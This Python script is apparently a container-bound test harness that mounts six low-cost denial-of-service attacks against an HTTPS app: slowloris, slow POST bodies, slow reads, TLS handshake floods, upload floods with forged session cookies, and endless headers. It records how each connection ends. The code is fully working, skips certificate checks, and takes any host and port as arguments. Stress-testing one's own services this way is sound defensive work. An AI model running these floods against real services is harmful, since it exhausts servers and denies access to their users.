"""One attacker at one address, of the kinds that cost little to mount. Runs inside a container; bounded in all it does.

usage: attack.py KIND HOST PORT COUNT SECONDS   prints how its connections ended, as JSON
"""

from __future__ import annotations

import asyncio
import json
import secrets
import socket
import ssl
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable

Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]


class Attack:
    """`run` mounts it; `ends` counts how each connection ended."""

    def __init__(self, host: str, port: int, seconds: float) -> None:
        self.host, self.port = host, port
        self.until = time.monotonic() + seconds
        self.ends: Counter[str] = Counter()
        self._context = ssl.create_default_context()
        self._context.check_hostname = False
        self._context.verify_mode = ssl.CERT_NONE

    async def run(self, kind: Callable[[Attack], Awaitable[str]], count: int, at_once: int) -> None:
        """Do it `count` times, so many at once."""
        room = asyncio.Semaphore(at_once)

        async def one() -> None:
            async with room:
                try:
                    self.ends[await kind(self)] += 1
                except OSError:
                    self.ends["cut off"] += 1

        await asyncio.gather(*(one() for _ in range(count)))

    async def open(self, buffer: int = 0) -> Streams:
        """A TLS connection. `buffer`: of the kernel's for what comes in, in bytes."""
        plain = socket.socket()
        if buffer:
            plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer)
        plain.setblocking(False)  # noqa: FBT003
        await asyncio.get_running_loop().sock_connect(plain, (self.host, self.port))
        return await asyncio.open_connection(
            sock=plain, ssl=self._context, server_hostname="app.localhost", limit=max(1024, buffer)
        )

    async def trickle(self, streams: Streams, first: bytes, piece: bytes, pause: float) -> str:
        """Send a little now and then, as long as the other side bears it or the time lasts."""
        reader, writer = streams
        writer.write(first)
        answer = asyncio.ensure_future(reader.read(12))
        while time.monotonic() < self.until:
            done, _ = await asyncio.wait([answer], timeout=pause)
            if done:
                writer.close()
                return "cut off" if not answer.result() else answer.result().decode(errors="replace")
            writer.write(piece)
            await writer.drain()
        writer.close()
        return "held to the end"


HEAD = b"Host: app.localhost\r\n"


async def slowloris(attack: Attack) -> str:
    """A header that never ends, a byte at a time."""
    return await attack.trickle(await attack.open(), b"GET / HTTP/1.1\r\n" + HEAD, b"x", 1)


async def slow_body(attack: Attack) -> str:
    """A body that takes for ever."""
    first = b"POST /form HTTP/1.1\r\n" + HEAD + b"Content-Length: 200000\r\n\r\n"
    return await attack.trickle(await attack.open(), first, b"x", 1)


async def slow_read(attack: Attack) -> str:
    """Many answers asked for, and a few bytes taken of them."""
    reader, writer = await attack.open(buffer=2048)
    writer.write((b"GET /big HTTP/1.1\r\n" + HEAD + b"\r\n") * 20)
    while time.monotonic() < attack.until:
        await asyncio.sleep(1)
        if not await reader.read(1):
            return "cut off"
    writer.transport.abort()
    return "held to the end"


async def handshake(attack: Attack) -> str:
    """A whole handshake, for nothing."""
    _, writer = await attack.open()
    writer.transport.abort()
    return "done"


async def upload(attack: Attack) -> str:
    """A file under a made-up session."""
    reader, writer = await attack.open()
    size = 1 << 20
    cookie = b"Cookie: __Host-gate=" + secrets.token_urlsafe(32).encode() + b"\r\n"
    writer.write(b"PUT /_stcore/upload_file/stream/file HTTP/1.1\r\n" + HEAD + cookie)
    writer.write(b"Content-Length: %d\r\nConnection: close\r\n\r\n" % size)
    for _ in range(16):
        writer.write(b"x" * (size // 16))
        await writer.drain()
    answer = await reader.read(12)
    writer.transport.abort()
    return answer.decode(errors="replace")


async def endless(attack: Attack) -> str:
    """Headers without end, as fast as they go."""
    reader, writer = await attack.open()
    writer.write(b"GET / HTTP/1.1\r\n" + HEAD)
    for _ in range(2000):
        writer.write(b"X-More: " + b"x" * 1000 + b"\r\n")
        await writer.drain()
    answer = await reader.read(12)
    writer.transport.abort()
    return answer.decode(errors="replace")


KINDS = {
    "slowloris": (slowloris, 1000),
    "slow_body": (slow_body, 1000),
    "slow_read": (slow_read, 1000),
    "handshake": (handshake, 50),
    "upload": (upload, 500),
    "endless": (endless, 50),
}

if __name__ == "__main__":
    name, host, port, count, seconds = sys.argv[1:]
    attack = Attack(host, int(port), float(seconds))
    kind, at_once = KINDS[name]
    asyncio.run(attack.run(kind, int(count), at_once))
    print(json.dumps(attack.ends))  # noqa: T201
